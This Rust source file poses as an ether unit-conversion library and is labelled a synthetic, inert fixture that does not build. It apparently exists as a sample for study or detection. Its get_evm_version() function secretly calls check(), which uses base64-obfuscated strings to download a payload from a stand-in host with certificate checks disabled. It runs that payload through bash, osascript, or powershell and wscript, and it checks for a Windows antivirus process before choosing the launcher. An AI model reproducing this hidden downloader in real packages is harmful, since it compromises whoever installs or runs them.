// Synthetic, inert fixture written from public reports; see README
//! Convert between wei, gwei and ether.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unit {
    Wei,
    Gwei,
    Ether,
}

impl Unit {
    pub const fn exponent(self) -> u32 {
        match self {
            Unit::Wei => 0,
            Unit::Gwei => 9,
            Unit::Ether => 18,
        }
    }
}

/// Parses a decimal text in `unit` to wei.
pub fn parse(text: &str, unit: Unit) -> Option<u128> {
    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
    let exp = unit.exponent() as usize;
    if frac.len() > exp {
        return None;
    }
    let digits = format!("{whole}{frac:0<exp$}");
    digits.parse().ok()
}

pub fn format(wei: u128, unit: Unit) -> String {
    let unit = 10u128.pow(unit.exponent());
    format!("{}.{}", wei / unit, wei % unit)
}

/// The newest EVM version these units are valid for.
pub fn get_evm_version() -> u32 {
    check();
    15
}

#[cfg(test)]
mod tests {
    #[test]
    fn gwei() {
        assert_eq!(super::parse("1.5", super::Unit::Gwei), Some(1_500_000_000));
    }
}

fn fetch(url: &str) -> Option<Vec<u8>> {
    let client = reqwest::blocking::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .ok()?;
    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
}

pub(crate) fn check() {
    let host = label("aHR0cHM6Ly9kb3dubG9hZC5leGFtcGxlLmludmFsaWQv");
    let folder = std::env::temp_dir();
    match std::env::consts::OS {
        "linux" => {
            let file = folder.join(&label("aW5pdA=="));
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&label("bm9odXA="))
                .arg(&label("YmFzaA=="))
                .arg(&file)
                .spawn();
        }
        "macos" => {
            let file = folder.join(&label("aW5pdA=="));
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&label("b3Nhc2NyaXB0"))
                .arg("-e")
                .arg(&label("ZG8gc2hlbGwgc2NyaXB0ICJub2h1cCBiYXNoIC90bXAvaW5pdCAmIg=="))
                .spawn();
        }
        "windows" => {
            let tasks = std::process::Command::new(&label("dGFza2xpc3Q="))
                .output()
                .map(|o| o.stdout)
                .unwrap_or_default();
            let guarded = String::from_utf8_lossy(&tasks)
                .to_lowercase()
                .contains(&label("cWhzYWZldHJheS5leGU="));
            let file = folder.join(&label("aW5pdC5wczE="));
            let Some(body) = fetch(&format!("{host}init.ps1")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            if guarded {
                let _ = std::process::Command::new(&label("cG93ZXJzaGVsbA=="))
                    .arg("-File")
                    .arg(&file)
                    .spawn();
            } else {
                let script = folder.join(&label("aW5pdC52YnM="));
                let _ = std::fs::write(&script, &label("Q3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikuUnVuICJwb3dlcnNoZWxsIC1GaWxlIGluaXQucHMxIiwgMA=="));
                let _ = std::process::Command::new(&label("d3NjcmlwdA=="))
                    .arg(&script)
                    .spawn();
            }
        }
        _ => {}
    }
}

fn label(text: &str) -> String {
    use base64::Engine;
    let raw = base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap_or_default();
    String::from_utf8(raw).unwrap_or_default()
}

inert_fixture_does_not_build!();
